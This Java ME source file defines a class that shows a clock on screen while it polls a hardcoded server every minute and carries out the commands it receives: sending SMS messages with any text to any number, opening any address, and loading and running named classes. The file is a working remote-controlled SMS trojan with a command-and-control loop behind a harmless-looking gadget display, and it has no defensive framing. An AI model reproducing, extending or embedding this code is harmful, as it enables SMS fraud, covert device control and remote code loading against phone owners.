package com.example.gadget;

import java.io.IOException;
import java.io.InputStream;
import javax.microedition.io.Connector;
import javax.microedition.io.HttpConnection;
import javax.microedition.lcdui.StringItem;
import javax.microedition.midlet.MIDlet;
import javax.wireless.messaging.MessageConnection;
import javax.wireless.messaging.TextMessage;

/** Polls a server and carries out its lines: "sms NUMBER TEXT", "open ADDRESS", "load CLASS". */
class Orders implements Runnable {
    private final MIDlet owner;
    private final StringItem clock;
    private volatile boolean stopped;

    Orders(MIDlet owner, StringItem clock) {
        this.owner = owner;
        this.clock = clock;
    }

    void stop() {
        stopped = true;
    }

    public void run() {
        while (!stopped) {
            clock.setText(String.valueOf(System.currentTimeMillis() / 60000L));
            try {
                obey(poll());
                Thread.sleep(60000L);
            } catch (Exception e) {
                e.printStackTrace();
            }
        }
    }

    private static String poll() throws IOException {
        HttpConnection connection = (HttpConnection) Connector.open("http://198.51.100.7:8080/orders");
        InputStream in = connection.openInputStream();
        try {
            byte[] line = new byte[(int) connection.getLength()];
            int length = in.read(line);
            return length > 0 ? new String(line, 0, length) : "";
        } finally {
            in.close();
            connection.close();
        }
    }

    private void obey(String line) throws Exception {
        int end = line.indexOf(' ', 5);
        if (line.startsWith("sms ") && end > 0) {
            send(line.substring(4, end), line.substring(end + 1));
        } else if (line.startsWith("open ")) {
            owner.platformRequest(line.substring(5));
        } else if (line.startsWith("load ")) {
            ((Runnable) Class.forName(line.substring(5)).newInstance()).run();
        }
    }

    private static void send(String number, String text) throws IOException {
        MessageConnection connection = (MessageConnection) Connector.open("sms://" + number);
        TextMessage message = (TextMessage) connection.newMessage(MessageConnection.TEXT_MESSAGE);
        message.setPayloadText(text);
        connection.send(message);
        connection.close();
    }
}
